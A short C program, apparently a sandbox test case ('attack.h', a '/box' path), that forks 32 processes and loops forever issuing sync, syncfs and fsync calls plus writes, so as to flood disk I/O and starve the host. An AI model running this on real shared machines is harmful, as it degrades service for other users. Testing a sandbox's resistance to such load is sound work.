#include "attack.h"

int main(void) {
  for (int i = 0; i < 5; ++i) fork();
  const int root = open("/usr/bin/env", O_RDONLY), usr = open("/usr", O_RDONLY), box = open("/box/x", O_CREAT | O_RDWR, 0600);
  for (;;) {
    syscall(SYS_sync);
    syncfs(root);
    syncfs(usr);
    fsync(root);
    if (pwrite(box, "x", 1, 0) == 1) fsync(box);
  }
}
